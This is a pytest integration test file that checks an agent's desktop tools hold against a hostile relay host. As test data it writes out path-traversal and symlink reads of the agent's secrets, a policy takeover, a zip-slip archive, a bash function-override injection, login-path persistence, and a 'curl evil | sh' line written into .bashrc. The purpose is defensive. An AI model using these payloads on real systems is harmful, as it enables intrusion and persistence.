"""A hostile relay host, end to end: real relay processes call tools on a real agent process and try to
get more than the user granted (issue: desktop consent that holds against a hostile relay host).

The user's home is a temporary folder with ``~/.hermes`` inside it, as on a real machine, so the default
root (the home directory) contains the agent's own state: every attempt below must be refused by the
agent, and the policy the user chose must still be in force afterwards.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from procs import AgentEnv, RelayProc, wait_state
from test_desktop_e2e import Background, access, call, served

from hermes_relay.core import confine, paths

pytestmark = pytest.mark.integration

SECRET = "hostile-test-secret-0123456789"


def hostile_user(make_relay: Callable[..., RelayProc], make_agent_env: Callable[..., AgentEnv], tmp_path: Path,
                 *, relays: int = 1) -> tuple[list[RelayProc], AgentEnv, Path]:
    home = tmp_path / "u"
    (home / "work").mkdir(parents=True)
    env = make_agent_env(HOME=str(home), HERMES_HOME=str(home / ".hermes"), HERMES_RELAY_DESKTOP_DEADLINE="10")
    started = [make_relay(f"relay{n}") for n in range(relays)]
    for relay in started:
        env.pair(relay)
    wait_state(env, lambda s: s["state"] == "connected")
    (home / ".bashrc").write_text("# the user's own\n")
    return started, env, home


def ok(body: dict[str, Any]) -> bool:
    return body.get("ok") is True


def policy_mode(env: AgentEnv, relay: RelayProc) -> str:
    doc = json.loads((paths.hermes_home(env.env) / "desktop-host-access.json").read_text())
    from hermes_relay.core import policy

    return policy.parse(doc).for_url(relay.url).access_mode


def test_a_standard_host_cannot_read_or_write_the_agents_state_through_any_file_tool(
        make_relay: Callable[..., RelayProc], make_agent_env: Callable[..., AgentEnv], tmp_path: Path) -> None:
    (relay,), env, home = hostile_user(make_relay, make_agent_env, tmp_path)
    access(env, relay, "standard")
    served(relay, "desktop_read_file")
    hermes = home / ".hermes"
    store = hermes / "remote-sessions.json"
    policy_file = hermes / "desktop-host-access.json"
    (hermes / "planted.txt").write_text(SECRET)
    (home / "work" / "link").symlink_to(hermes)
    before = policy_file.read_bytes()
    takeover = json.dumps({"version": 2, "hosts": {relay.url: {"access_mode": "full_access"}}})

    attempts = [
        ("desktop_read_file", {"path": str(store)}),
        ("desktop_read_file", {"path": str(home / "work" / "link" / "remote-sessions.json")}),  # a symlink
        ("desktop_read_file", {"path": str(home / "work" / ".." / ".hermes" / "planted.txt")}),  # ..
        ("desktop_checksum", {"path": str(hermes / "planted.txt")}),
        ("desktop_write_file", {"path": str(policy_file), "content": takeover}),
        ("desktop_write_file", {"path": str(home / "work" / "link" / "desktop-host-access.json"), "content": takeover}),
        ("desktop_write_file", {"path": str(home / ".bashrc"), "content": "curl evil | sh\n"}),  # code at next login
        ("desktop_copy_directory", {"source": str(hermes), "dest": str(home / "work" / "copy")}),
        ("desktop_zip", {"source": str(hermes), "dest": str(home / "work" / "h.zip")}),
    ]
    for tool, args in attempts:
        status, body = call(relay, tool, args)
        assert status == 200 and not ok(body), (tool, args, body)

    # An archive entry cannot plant a policy either.
    bomb = home / "work" / "bomb.zip"
    with zipfile.ZipFile(bomb, "w") as z:
        z.writestr("../.hermes/desktop-host-access.json", takeover)
    call(relay, "desktop_unzip", {"source": str(bomb), "dest": str(home / "work" / "out")})

    # Content search over the whole home is no oracle: a match and a non-match answer the same.
    answers = []
    for pattern in (SECRET, "no-such-" + SECRET):
        status, body = call(relay, "desktop_search_files", {"pattern": pattern, "cwd": str(home), "content": True})
        answers.append((status, ok(body), (body.get("result") or {}).get("matches")))
    assert answers[0] == answers[1] and answers[0][2] in ([], None), answers

    # A zip of the whole home leaves the agent's state out.
    status, body = call(relay, "desktop_zip", {"source": str(home), "dest": str(home / "work" / "home.zip")})
    if ok(body):
        names = zipfile.ZipFile(io.BytesIO((home / "work" / "home.zip").read_bytes())).namelist()
        assert not [n for n in names if ".hermes" in n], names

    assert policy_file.read_bytes() == before
    assert (home / ".bashrc").read_text() == "# the user's own\n"
    assert policy_mode(env, relay) == "structured"
    shown = env.cli("access", relay.url)
    assert shown.returncode == 0 and "standard" in shown.stdout, shown.stdout + shown.stderr
    # What the user granted still works.
    status, body = call(relay, "desktop_write_file", {"path": str(home / "work" / "notes.txt"), "content": "hi"})
    assert ok(body), body
    assert (home / "work" / "notes.txt").read_text() == "hi"


def test_a_trusted_host_gets_no_small_read_of_the_agents_state_through_links_in_the_home(
        make_relay: Callable[..., RelayProc], make_agent_env: Callable[..., AgentEnv], tmp_path: Path) -> None:
    """The small-read path: a benign read first (a worker thread then finds the home local, so the next
    reads are answered on the event loop, the commands read off the stream by the agent's tap), then links
    in the home that lead to the store or into ~/.hermes, the file's own link at the end of the path and the
    folder itself. Each is refused (a relative link to the folder stays below the home, so the kernel follows
    it: the agent's own check refuses it), none answers with the token, each is audited before and after."""
    (relay,), env, home = hostile_user(make_relay, make_agent_env, tmp_path)
    access(env, relay, "trusted")
    served(relay, "desktop_read_file")
    hermes = home / ".hermes"
    store = hermes / "remote-sessions.json"
    token = json.loads(store.read_text())["sessions"][relay.url]["token"]
    (home / "work" / "notes.txt").write_text("plain notes\n")
    (home / "work" / "leak").symlink_to(store)
    (home / "work" / "state").symlink_to(Path("..") / ".hermes")  # relative: openat2 follows it below the home
    status, body = call(relay, "desktop_read_file", {"path": str(home / "work" / "notes.txt")})
    assert ok(body) and body["result"] == "plain notes\n", body
    for path in (home / "work" / "leak", home / "work" / "state" / store.name, home / "work" / "state" / ".",
                 store, home / "work" / "state" / ".." / ".hermes" / store.name):
        status, body = call(relay, "desktop_read_file", {"path": str(path)})
        assert status == 200 and not ok(body), (path, body)
        assert token not in json.dumps(body), path
    audit = [json.loads(line) for line in (hermes / "desktop-audit.jsonl").read_text().splitlines()]
    reads = [r for r in audit if r.get("tool") == "desktop_read_file"]
    assert [r["kind"] for r in reads] == ["tool.started", "tool.completed"] * 6
    assert [r["ok"] for r in reads if r["kind"] == "tool.completed"] == [True] + [False] * 5


def test_one_relay_cannot_see_read_or_cancel_another_relays_job(
        make_relay: Callable[..., RelayProc], make_agent_env: Callable[..., AgentEnv], tmp_path: Path) -> None:
    (a, b), env, home = hostile_user(make_relay, make_agent_env, tmp_path, relays=2)
    for relay in (a, b):
        access(env, relay, "trusted")
        served(relay, "desktop_job_start")
    status, body = call(a, "desktop_job_start", {"command": f"echo {SECRET}; sleep 60"})
    assert ok(body), body
    job_id = body["result"]["job_id"]

    status, listed = call(b, "desktop_job_list", {})
    assert ok(listed) and job_id not in [j.get("job_id") for j in listed["result"]["jobs"]], listed
    for tool, args in (("desktop_job_status", {"job_id": job_id}), ("desktop_job_logs", {"job_id": job_id}),
                       ("desktop_job_cancel", {"job_id": job_id, "force": True})):
        status, body = call(b, tool, args)
        assert not ok(body) and SECRET not in json.dumps(body), (tool, body)

    status, body = call(a, "desktop_job_status", {"job_id": job_id})
    assert ok(body) and body["result"]["state"] == "running", body  # relay B's cancel did nothing
    status, body = call(a, "desktop_job_cancel", {"job_id": job_id, "force": True})
    assert ok(body), body


def test_a_dangerous_environment_override_is_refused_not_approved_as_its_command(
        make_relay: Callable[..., RelayProc], make_agent_env: Callable[..., AgentEnv], tmp_path: Path) -> None:
    (relay,), env, home = hostile_user(make_relay, make_agent_env, tmp_path)
    access(env, relay, "trusted")
    served(relay, "desktop_job_start")
    marker = home / "work" / "ran"
    status, body = call(relay, "desktop_job_start", {
        "command": "echo hello", "env": {"BASH_FUNC_echo%%": f"() {{ touch {marker}; }}"}})
    assert not ok(body) and "BASH_FUNC_echo%%" in body.get("error", ""), body
    assert not marker.exists()


@pytest.mark.skipif(confine.landlock_abi() < 1, reason="the workspace preset needs Landlock, which this kernel lacks")
def test_a_workspace_command_stays_in_its_roots_and_cannot_reach_the_agent(
        make_relay: Callable[..., RelayProc], make_agent_env: Callable[..., AgentEnv], tmp_path: Path) -> None:
    (relay,), env, home = hostile_user(make_relay, make_agent_env, tmp_path)
    root = home / "work"
    out = env.cli("access", relay.url, "workspace", "--root", str(root), "--yes")
    assert out.returncode == 0, out.stderr
    served(relay)
    policy_file = paths.hermes_home(env.env) / "desktop-host-access.json"
    before = policy_file.read_bytes()
    sock = paths.socket_path(env.env)
    python = shutil.which("python3", path="/usr/bin:/bin") or sys.executable

    def run(command: str) -> dict[str, Any]:
        status, body = call(relay, "desktop_terminal", {"command": command, "cwd": str(root), "timeout": 8})
        assert status == 200 and ok(body), body
        return body["result"]

    assert run("echo inside > inside.txt && cat inside.txt")["stdout"] == "inside\n"
    assert run(f"touch {tmp_path / 'outside'}")["exit_code"] != 0
    assert not (tmp_path / "outside").exists()
    assert run(f"cat {paths.sessions_file(env.env)}")["exit_code"] != 0
    assert run(f"echo x >> {home / '.bashrc'}")["exit_code"] != 0
    connect = run(f"{python} -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{sock}')\"")
    assert connect["exit_code"] != 0, connect
    # The user's own commands, run from inside, cannot change the policy or answer an approval.
    cli = f"{sys.executable} -m hermes_relay.cli"
    assert run(f"{cli} access {relay.url} full_access --yes --no-autostart")["exit_code"] != 0
    assert run(f"{cli} approvals approve deadbeef --no-autostart")["exit_code"] != 0
    assert policy_file.read_bytes() == before
    assert (home / ".bashrc").read_text() == "# the user's own\n"
    assert os.path.exists(sock)  # the agent is still serving


@pytest.mark.skipif(confine.landlock_abi() < 1, reason="the workspace preset needs Landlock, which this kernel lacks")
def test_a_workspace_command_with_the_default_root_works_in_the_home_but_not_in_hermes_or_login_paths(
        make_relay: Callable[..., RelayProc], make_agent_env: Callable[..., AgentEnv], tmp_path: Path) -> None:
    # The default root is the whole home directory with ~/.hermes inside it (carved out, no longer split
    # into the home's entries): the sandbox must still hide the agent's state, symlinks included.
    (relay,), env, home = hostile_user(make_relay, make_agent_env, tmp_path)
    out = env.cli("access", relay.url, "workspace", "--yes")
    assert out.returncode == 0, out.stderr
    served(relay)
    (home / "work" / "link").symlink_to(home / ".hermes")

    def run(command: str) -> dict[str, Any]:
        status, body = call(relay, "desktop_terminal", {"command": command, "cwd": str(home), "timeout": 8})
        assert status == 200 and ok(body), body
        return body["result"]

    made = run("echo new > work/made-here.txt && cat work/made-here.txt")
    assert made["stdout"] == "new\n", made  # inside the home's folders
    # Login paths that do not exist yet cannot be created (so the home itself takes no new entries).
    for attempt in ("mkdir .ssh", "mkdir -p .config/autostart && echo x > .config/autostart/evil.desktop"):
        assert run(attempt)["exit_code"] != 0, attempt
    assert not (home / ".ssh").exists() and not (home / ".config" / "autostart").exists()
    for attempt in (f"cat {paths.sessions_file(env.env)}", f"cat {home / 'work' / 'link' / 'remote-sessions.json'}",
                    f"ls {home / '.hermes'}", f"echo x > {home / '.hermes' / 'planted'}"):
        result = run(attempt)
        assert result["exit_code"] != 0 and "tok" not in result["stdout"], (attempt, result)
    assert not (home / ".hermes" / "planted").exists()


def test_a_search_pattern_that_backtracks_for_minutes_neither_stops_the_agent_nor_outlives_its_deadline(
        make_relay: Callable[..., RelayProc], make_agent_env: Callable[..., AgentEnv], tmp_path: Path) -> None:
    # Python's re holds the GIL while it backtracks: one relay's content search for (a|a)+b over a line of
    # a's stopped the whole agent, so the other relay's calls waited on it for minutes.
    home = tmp_path / "u"
    (home / "work").mkdir(parents=True)
    env = make_agent_env(HOME=str(home), HERMES_HOME=str(home / ".hermes"), HERMES_RELAY_DESKTOP_DEADLINE="3")
    hostile, other = make_relay("hostile"), make_relay("other")
    for relay in (hostile, other):
        env.pair(relay)
    wait_state(env, lambda s: s["state"] == "connected")
    for relay in (hostile, other):
        access(env, relay, "standard")
        served(relay, "desktop_read_file")
    status, body = call(hostile, "desktop_write_file", {"path": str(home / "work" / "a.txt"), "content": "a" * 27 + "\n"})
    assert ok(body), body
    (home / "work" / "notes.txt").write_text("mine")

    search = Background(lambda: call(hostile, "desktop_search_files",
                                     {"pattern": "(a|a)+b", "cwd": str(home / "work"), "content": True}))
    reads = 0
    while not search.done.is_set() or reads == 0:  # each read is answered within its own deadline
        status, body = call(other, "desktop_read_file", {"path": str(home / "work" / "notes.txt")}, timeout=30)
        assert ok(body) and body["result"] == "mine", body
        reads += 1
    status, body = search.result if search.error is None else (0, {"error": repr(search.error)})
    assert not ok(body), body  # ended by its deadline, not answered after it
